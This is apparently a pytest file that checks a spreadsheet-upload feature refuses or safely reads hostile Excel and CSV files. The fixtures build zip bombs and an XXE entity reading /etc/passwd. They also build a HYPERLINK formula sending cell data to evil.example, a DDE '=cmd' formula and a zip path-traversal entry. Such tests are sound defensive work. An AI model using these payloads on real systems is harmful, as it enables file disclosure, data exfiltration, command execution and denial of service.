"""Files that mean harm, or look as if: each is refused in words or read as it is, within 10 seconds and 500 MB."""

import io
import json
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook

from tests.app.transfer.excel.test_opening import OLE, PLAN, SHEET, altered, with_declaration, workbook, zipped

ROW = b'<row r="%d" s="1" customFormat="1" ht="15"><c r="A%d" s="1"/><c r="B%d" s="1"/><c r="C%d" s="1"/></row>'
EXTERNAL = b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
COMMAND = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def with_rows(xml: bytes) -> bytes:
    """The sheet with formatted empty rows down to the last there can be."""
    rows = b"".join(ROW % (n, n, n, n) for n in range(10, 1_048_577))
    return xml.replace(b"</sheetData>", rows + b"</sheetData>")


def with_member(name: str, content: bytes) -> bytes:
    result = io.BytesIO(PLAN)
    with zipfile.ZipFile(result, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr(name, content)
    return result.getvalue()


def with_formulas() -> bytes:
    book = Workbook()
    sheet = book.worksheets[0]
    sheet.append(["Outcome", "Objective", "Action", "Timescale"])
    sheet.append(["Better", "Sooner", COMMAND, "May 23"])
    sheet.append([None, None, "=cmd|'/c calc'!A0", "Jun 23"])
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()


TEXT = 'Outcome;Objective;Action;Timescale\r\nBetter;Sooner;"Do “it”; and well";May 23\r\n'
REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "zip bomb.xlsx": (lambda: altered(PLAN, SHEET, lambda xml: xml + b" " * 205_000_000), "far larger than any plan"),
    "bomb beside it.xlsx": (lambda: with_member("xl/media/a.bin", b"\0" * 205_000_000), "far larger than any plan"),
    "entities.xlsx": (lambda: altered(PLAN, SHEET, with_declaration), "declarations"),
    "external entity.xlsx": (
        lambda: altered(PLAN, "xl/workbook.xml", lambda xml: EXTERNAL + xml.split(b"?>", 1)[-1]), "declarations",
    ),
    "truncated.xlsx": (lambda: PLAN[:-200], "damaged"),
    "html.xlsx": (lambda: b"\xef\xbb\xbf<html><body><table><tr><td>Action</td></tr></table></body></html>", "web page"),
    "biff.xlsx": (lambda: OLE + b"Workbook".ljust(4_000, b"\0"), "old Office program"),
    "word.xlsx": (lambda: zipped(word__document_dot_xml=b"<w/>"), "Word document"),
    "locked.xlsx": (lambda: OLE + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"), "password"),
    "html.csv": (lambda: b"<html><table></table></html>", "web page"),
    "no table.csv": (lambda: b"Dear all,\nplease find attached\n", "no table"),
    "headings alone.xlsx": (lambda: workbook(("Outcome", "Objective", "Action", "Timescale")), "nothing stands below"),
}  # fmt: skip
READ: dict[str, tuple[Callable[[], bytes], int, str]] = {
    "formatted rows.xlsx": (lambda: altered(PLAN, SHEET, with_rows), 1, ""),
    "lying dimension.xlsx": (
        lambda: altered(PLAN, SHEET, lambda xml: xml.replace(b'ref="A1:D2"', b'ref="A1:XFD1048576"')), 1, "",
    ),
    "small dimension.xlsx": (
        lambda: altered(PLAN, SHEET, lambda xml: xml.replace(b'ref="A1:D2"', b'ref="A1"')), 1, "",
    ),
    "traversal.xlsx": (lambda: with_member("../../../../tmp/waypost-was-here", b"x"), 1, ""),
    "macros.xlsm": (lambda: with_member("xl/vbaProject.bin", OLE), 1, "macros"),
    "links.xlsx": (lambda: with_member("xl/externalLinks/externalLink1.xml", b"<externalLink/>"), 1, "other workbooks"),
    "formulas.xlsx": (with_formulas, 0, "saved without its result"),
    "utf-16.csv": (lambda: TEXT.replace(";", "\t").replace("\t and", "; and").encode("utf-16"), 1, ""),
    "cp1252.csv": (lambda: TEXT.encode("cp1252"), 1, ""),
    "utf-8.csv": (lambda: TEXT.encode("utf-8-sig"), 1, ""),
}  # fmt: skip


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any]]:
    folder = tmp_path_factory.mktemp("hostile")
    paths = [_saved(folder / name, make()) for name, make in _all()]
    command = [sys.executable, "-m", "tests.app.transfer.excel.limits", *map(str, paths)]
    done = subprocess.run(command, capture_output=True, text=True, check=True, cwd=Path(__file__).parents[4])
    return {path.name: result for path, result in zip(paths, json.loads(done.stdout), strict=True)}


def _all() -> Iterator[tuple[str, Callable[[], bytes]]]:
    yield from ((name, make) for name, (make, _) in REFUSED.items())
    yield from ((name, make) for name, (make, _, _) in READ.items())


def _saved(path: Path, content: bytes) -> Path:
    path.write_bytes(content)
    return path


@pytest.mark.parametrize("name", REFUSED)
def test_it_is_refused_in_words_that_say_what_to_do(name: str, results: dict[str, dict[str, Any]]) -> None:
    result = results[name]
    assert name in result["refused"]
    assert REFUSED[name][1] in result["refused"]
    assert result["megabytes"] < 500


@pytest.mark.parametrize("name", READ)
def test_it_is_read_as_it_is(name: str, results: dict[str, dict[str, Any]]) -> None:
    result = results[name]
    _, actions, said = READ[name]
    assert result["counts"]["actions"] == actions
    assert said in " ".join(result["findings"])
    assert result["megabytes"] < 500
    assert not Path("/tmp/waypost-was-here").exists()
